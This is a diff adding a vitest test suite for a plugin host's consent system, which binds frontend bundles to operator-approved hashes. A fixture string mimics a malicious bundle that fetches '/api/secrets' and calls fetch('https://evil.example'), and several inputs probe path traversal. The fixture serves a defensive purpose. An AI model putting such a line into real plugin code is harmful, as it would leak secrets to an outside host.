@@ -1,0 +1,223 @@
+import { rename, rm, symlink, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import { makeFolder, writeFiles } from './folder.test.kit.ts';
+import { sha256Of } from './grants.ts';
+import { createHandler, fileTrustStore } from './index.ts';
+
+const OLD = 'export default function Old() {}';
+const NEW = 'const { apiFetch } = NousViz.widgets; apiFetch("/api/secrets"); fetch("https://evil.example");';
+const hash = (text: string) => sha256Of(Buffer.from(text));
+const manifest = (id: string, ...files: string[]) =>
+  `id: ${id}\nfrontend:\n  components:\n${files
+    .map(
+      (file) =>
+        `    - {name: ${file.replace(/[^A-Za-z]|js$/g, '').replace(/^./, (first) => first.toUpperCase())}X, path: dist/${file}}\n`,
+    )
+    .join('')}`;
+
+async function makeHost(files: Record<string, string> = { 'Map.js': OLD }) {
+  const root = await makeFolder({
+    'plugins/sales/plugin.yaml': manifest('sales', ...Object.keys(files)),
+    'plugins/other/plugin.yaml': manifest('other', 'Map.js'),
+    'plugins/other/dist/Map.js': 'export default 2',
+    ...Object.fromEntries(Object.entries(files).map(([file, text]) => [`plugins/sales/dist/${file}`, text])),
+  });
+  const at = (path: string) => join(root, path);
+  const trust = fileTrustStore(at('data/trust.jsonl'));
+  const handler = createHandler({ plugins: at('plugins'), trust });
+  const send = (path: string, init?: RequestInit) =>
+    handler(new Request(new URL(`/api/plugins/${path}`, 'http://localhost:4173'), init));
+  const consent = (bundles?: unknown, id = 'sales') =>
+    send(`${id}/trust-frontend`, {
+      method: 'POST',
+      ...(bundles !== undefined && { body: JSON.stringify({ bundles }) }),
+    });
+  const components = async (id = 'sales') =>
+    (await (await send(`${id}/frontend-components`)).json()).components;
+  const write = (file: string, text: string) => writeFile(at(`plugins/sales/dist/${file}`), text);
+  return { at, trust, handler, send, consent, components, write };
+}
+
+const told = async (response: Response) => [response.status, await response.text()];
+
+test('tells hash, size and findings before consent, and nothing to decide after it (P1)', async () => {
+  const { consent, components, write } = await makeHost();
+  await write('Map.js', NEW);
+  expect(await components()).toMatchObject([
+    {
+      sha256: hash(NEW),
+      size: NEW.length,
+      findings: {
+        api_paths: ['/api/secrets'],
+        hosts: ['evil.example'],
+        helpers: ['apiFetch'],
+        reaches: ['fetch'],
+        imports: [],
+      },
+    },
+  ]);
+  expect((await consent({ 'Map.js': hash(NEW) })).status).toBe(200);
+  const [entry] = await components();
+  expect(entry).toMatchObject({ sha256: hash(NEW), exists_on_disk: true });
+  for (const field of ['findings', 'changed', 'consented']) expect(entry).not.toHaveProperty(field);
+});
+
+test('serves the consented bytes, whatever is on disk by now (T4)', async () => {
+  const { send, consent, components, write } = await makeHost();
+  await consent({ 'Map.js': hash(OLD) });
+  await write('Map.js', NEW);
+  const plain = await send('sales/widget/Map.js');
+  expect([plain.headers.get('cache-control'), ...(await told(plain))]).toEqual(['no-cache', 200, OLD]);
+  const versioned = await send(`sales/widget/Map.js?v=${hash(OLD)}&r=3`);
+  expect(versioned.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
+  expect(await versioned.text()).toBe(OLD);
+  expect(await told(await send(`sales/widget/Map.js?v=${hash(NEW)}`))).toEqual([
+    409,
+    expect.stringContaining('Nobody consented to these bytes of dist/Map.js'),
+  ]);
+  expect(await components()).toMatchObject([
+    {
+      changed: true,
+      sha256: hash(NEW),
+      findings: { hosts: ['evil.example'] },
+      consented: { sha256: hash(OLD), size: OLD.length, findings: { hosts: [] } },
+    },
+  ]);
+});
+
+test('runs accepted bytes, keeps earlier ones for open pages, and asks again at a rollback', async () => {
+  const { send, consent, components, write } = await makeHost();
+  await consent();
+  await write('Map.js', NEW);
+  expect((await consent({ 'Map.js': hash(NEW) })).status).toBe(200);
+  expect(await (await send('sales/widget/Map.js')).text()).toBe(NEW);
+  expect(await told(await send(`sales/widget/Map.js?v=${hash(OLD)}`))).toEqual([200, OLD]);
+  await write('Map.js', OLD);
+  expect(await components()).toMatchObject([{ changed: true, sha256: hash(OLD) }]);
+  expect(await (await send('sales/widget/Map.js')).text()).toBe(NEW);
+
+  await send('sales/revoke-frontend-trust', { method: 'POST' });
+  for (const query of ['', `?v=${hash(OLD)}`, `?v=${hash(NEW)}`])
+    expect((await send(`sales/widget/Map.js${query}`)).status).toBe(403);
+  await consent();
+  expect((await send(`sales/widget/Map.js?v=${hash(NEW)}`)).status).toBe(409);
+});
+
+test.each<[string, unknown, number]>([
+  ['other bytes', { 'Map.js': hash(NEW) }, 409],
+  ['a file that is not there', { 'Map.js': hash(OLD), 'Gone.js': hash(OLD) }, 409],
+  ['nothing of what is there', {}, 409],
+  ['no hash', { 'Map.js': 'abc' }, 400],
+  ['upper-case hex', { 'Map.js': hash(OLD).toUpperCase() }, 400],
+  ['a list', ['Map.js'], 400],
+  ['no file name', { '../Map.js': hash(OLD) }, 400],
+])('records no consent that names %s', async (_, bundles, status) => {
+  const { consent, trust } = await makeHost();
+  expect((await consent(bundles)).status).toBe(status);
+  expect((await trust.grants()).size).toBe(0);
+});
+
+test('a consent without a body is to what is on disk', async () => {
+  const { consent, trust } = await makeHost();
+  expect((await consent()).status).toBe(200);
+  expect((await trust.grants()).get('sales')?.bundles).toEqual({ 'Map.js': hash(OLD) });
+});
+
+test('refuses a body that is no JSON, and one that is too long', async () => {
+  const { send, trust } = await makeHost();
+  const post = (body: string) => send('sales/trust-frontend', { method: 'POST', body });
+  expect(await told(await post('{'))).toEqual([400, expect.stringContaining('not JSON')]);
+  expect(await told(await post('"x"'))).toEqual([400, expect.stringContaining('not a JSON object')]);
+  expect((await post('x'.repeat(1_000_001))).status).toBe(413);
+  expect((await trust.grants()).size).toBe(0);
+});
+
+test('a component that comes with an update waits for the operator', async () => {
+  const { at, send, consent, components } = await makeHost();
+  await consent();
+  await writeFiles(at('plugins/sales'), {
+    'plugin.yaml': manifest('sales', 'Map.js', 'Extra.js'),
+    'dist/Extra.js': NEW,
+  });
+  expect(await components()).toMatchObject([{ sha256: hash(OLD) }, { changed: true, consented: null }]);
+  expect(await told(await send('sales/widget/Extra.js'))).toEqual([
+    403,
+    expect.stringContaining('accept it'),
+  ]);
+  expect((await send(`sales/widget/Extra.js?v=${hash(NEW)}`)).status).toBe(409);
+  expect(await (await send('sales/widget/Map.js')).text()).toBe(OLD);
+});
+
+test('bytes are bound to their plugin and their file', async () => {
+  const { send, consent } = await makeHost({ 'Map.js': OLD, 'Side.js': NEW });
+  await consent();
+  await consent(undefined, 'other');
+  expect((await send(`other/widget/Map.js?v=${hash(OLD)}`)).status).toBe(409);
+  expect((await send(`sales/widget/Map.js?v=${hash(NEW)}`)).status).toBe(409);
+  expect(await (await send(`sales/widget/Side.js?v=${hash(NEW)}`)).text()).toBe(NEW);
+});
+
+test.each(['x', '', hash(OLD).toUpperCase(), `${hash(OLD)}0`, `${hash(OLD).slice(1)}%00`, '..%2f..'])(
+  'refuses v=%s',
+  async (version) => {
+    const { send, consent } = await makeHost();
+    await consent();
+    expect((await send(`sales/widget/Map.js?v=${version}`)).status).toBe(400);
+  },
+);
+
+test('a bundle that is gone runs on from what was kept, and that is checked', async () => {
+  const { at, send, consent, components } = await makeHost();
+  await consent();
+  await rm(at('plugins/sales/dist/Map.js'));
+  expect(await (await send('sales/widget/Map.js')).text()).toBe(OLD);
+  expect(await components()).toMatchObject([
+    { exists_on_disk: false, changed: true, consented: { sha256: hash(OLD) } },
+  ]);
+  await writeFile(at(`data/bundles/${hash(OLD)}.js`), NEW);
+  expect((await send('sales/widget/Map.js')).status).toBe(404);
+});
+
+test('a link that leads out of the plugin never stands for its bundle', async () => {
+  const { at, send, consent, components } = await makeHost();
+  await consent();
+  await rename(at('plugins/sales/dist/Map.js'), at('Map.js'));
+  await symlink(at('Map.js'), at('plugins/sales/dist/Map.js'));
+  expect(await components()).toMatchObject([{ exists_on_disk: false }]);
+  expect(await (await send('sales/widget/Map.js')).text()).toBe(OLD);
+});
+
+test.each(['__proto__.js', 'constructor.js', 'toString.js'])('binds %s like any other file', async (file) => {
+  const { send, consent, write } = await makeHost({ [file]: OLD });
+  expect((await send(`sales/widget/${file}`)).status).toBe(403);
+  expect((await consent({ [file]: hash(OLD) })).status).toBe(200);
+  await write(file, NEW);
+  expect(await (await send(`sales/widget/${file}`)).text()).toBe(OLD);
+  expect((await send(`sales/widget/${file}?v=${hash(NEW)}`)).status).toBe(409);
+});
+
+test('a consent of NousViz 1.0 is bound to the bytes of its first sight', async () => {
+  const { at, send, write } = await makeHost();
+  const line = { plugin_id: 'sales', action: 'trust', who: 'ada', when: '2026-01-01T00:00:00Z' };
+  await writeFiles(at('data'), { 'trust.jsonl': `${JSON.stringify(line)}\n` });
+  expect(await (await send('sales/widget/Map.js')).text()).toBe(OLD);
+  await write('Map.js', NEW);
+  expect(await (await send('sales/widget/Map.js')).text()).toBe(OLD);
+});
+
+test('a bundle is no service worker', async () => {
+  const { send, consent } = await makeHost();
+  await consent();
+  const answer = await send('sales/widget/Map.js', { headers: { 'Service-Worker': 'script' } });
+  expect(await told(answer)).toEqual([403, expect.stringContaining('no service worker')]);
+});
+
+test('a shim under its own hash is kept for good, under another one for an hour', async () => {
+  const { handler } = await makeHost();
+  const get = (query: string) => handler(new Request(`http://localhost/api/widget-runtime/react.js${query}`));
+  const text = await (await get('')).text();
+  expect((await get(`?v=${hash(text)}`)).headers.get('cache-control')).toMatch(/immutable/);
+  const old = await get(`?v=${hash('older')}`);
+  expect([old.headers.get('cache-control'), await old.text()]).toEqual(['public, max-age=3600', text]);
+});
